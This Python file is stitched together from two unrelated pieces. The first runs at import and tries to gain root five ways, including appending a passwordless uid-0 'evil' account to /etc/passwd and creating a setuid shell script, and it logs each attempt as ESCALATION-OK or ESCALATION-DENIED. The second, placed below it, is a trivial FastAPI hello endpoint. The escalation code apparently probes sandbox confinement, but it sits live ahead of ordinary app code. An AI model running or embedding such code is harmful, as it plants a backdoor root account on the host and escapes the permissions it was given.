import os
import subprocess


def attempt(label, action):
    try:
        action()
        print(f"ESCALATION-OK {label}")
    except Exception as error:
        print(f"ESCALATION-DENIED {label}: {error}")


def setuid_root():
    os.setuid(0)


def setgid_root():
    os.setgid(0)


def write_passwd():
    with open("/etc/passwd", "a") as handle:
        handle.write("evil::0:0::/:/bin/sh\n")


def run_su():
    result = subprocess.run(["su", "-c", "id"], capture_output=True, timeout=5, input=b"")
    if result.returncode != 0:
        raise PermissionError(f"su exited {result.returncode}")


def setuid_bit():
    with open("suid.sh", "w") as handle:
        handle.write("#!/bin/sh\nid\n")
    os.chmod("suid.sh", 0o4755)
    result = subprocess.run(["./suid.sh"], capture_output=True, timeout=5)
    if b"uid=0" not in result.stdout:
        raise PermissionError(f"still unprivileged: {result.stdout!r} {result.stderr[:80]!r}")


for label, action in [("setuid", setuid_root), ("setgid", setgid_root), ("write /etc/passwd", write_passwd),
                      ("su", run_su), ("setuid bit", setuid_bit)]:
    attempt(label, action)

from fastapi import FastAPI

app = FastAPI()


@app.get("/hello")
def hello(name: str = "World"):
    return {"message": f"Hello, {name}!"}
